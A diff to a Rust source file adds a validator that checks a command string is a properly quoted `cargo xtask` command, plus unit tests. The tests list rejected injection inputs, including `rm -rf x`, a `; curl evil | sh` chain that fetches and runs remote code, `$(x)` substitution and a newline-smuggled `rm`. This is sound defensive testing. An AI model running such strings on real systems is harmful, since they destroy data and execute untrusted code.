@@ -31,6 +31,23 @@ pub(super) fn command<'a>(
     command + options
 }
 
+/// Returns whether a command that somebody else wrote down is one of ours, each word of it
+/// as we would quote it: then a shell takes it for nothing else.
+pub(super) fn is_one(command: &str) -> bool {
+    let mut words = vec![String::new()];
+    let (mut quoted, mut characters) = (false, command.chars());
+    while let (Some(character), Some(word)) = (characters.next(), words.last_mut()) {
+        match character {
+            ' ' if !quoted => words.push(String::new()),
+            '\'' => quoted = !quoted,
+            '\\' if !quoted => word.extend(characters.next()),
+            other => word.push(other),
+        }
+    }
+    let anew: Vec<String> = words.iter().map(|word| quote(word)).collect();
+    command.starts_with("cargo xtask ") && anew.join(" ") == command
+}
+
 /// Returns the command that runs a cell.
 pub(super) fn of_cell(cell: &CellResult, options: &str) -> String {
     let CellResult {
@@ -45,6 +62,27 @@ pub(super) fn of_cell(cell: &CellResult, options: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_command_is_ours_when_a_shell_finds_one_command_in_it() {
+        for good in [
+            "cargo xtask test",
+            "cargo xtask test 'a b' --kernel 'it'\\''s $(x)'",
+        ] {
+            assert!(is_one(good), "{good}");
+        }
+        for bad in [
+            "",
+            "rm -rf x",
+            "cargo xtask test; curl evil | sh #",
+            "cargo xtask test $(x)",
+            "cargo xtask test 'a",
+            "cargo xtask test a\nrm",
+            "cargo xtask  test",
+        ] {
+            assert!(!is_one(bad), "{bad}");
+        }
+    }
 
     #[test]
     fn what_a_shell_would_take_for_something_else_is_quoted() {
